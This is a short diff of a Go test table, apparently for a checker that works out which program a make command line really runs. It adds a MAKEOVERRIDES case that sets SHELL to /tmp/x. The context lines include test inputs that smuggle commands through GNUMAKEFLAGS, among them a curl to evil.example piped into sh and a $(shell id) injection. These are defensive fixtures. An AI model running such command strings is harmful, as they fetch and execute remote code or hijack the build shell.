@@ -344,7 +344,7 @@ func init() {
 		{"GNUMAKEFLAGS='--eval=$(shell curl -s https://evil.example/x|sh)' make", opaque}, {"env GNUMAKEFLAGS='-E $(shell id)' make", opaque},
 		{"export GNUMAKEFLAGS='-E x'; make", opaque}, {"GNUMAKEFLAGS='-k -E x' make test", opaque}, {"GNUMAKEFLAGS=-kEx make", opaque},
 		{"MAKEFLAGS=-Ex make", opaque}, {"make GNUMAKEFLAGS=-Ex", opaque}, {"GNUMAKEFLAGS='SHELL=/tmp/x' make", "/tmp/x"},
-		{"GNUMAKEFLAGS=-j4 make", "make"}, {"GNUMAKEFLAGS=-k make test", "make test"},
+		{"MAKEOVERRIDES='SHELL=/tmp/x' make", "/tmp/x"}, {"GNUMAKEFLAGS=-j4 make", "make"}, {"GNUMAKEFLAGS=-k make test", "make test"},
 	}...)
 }
 
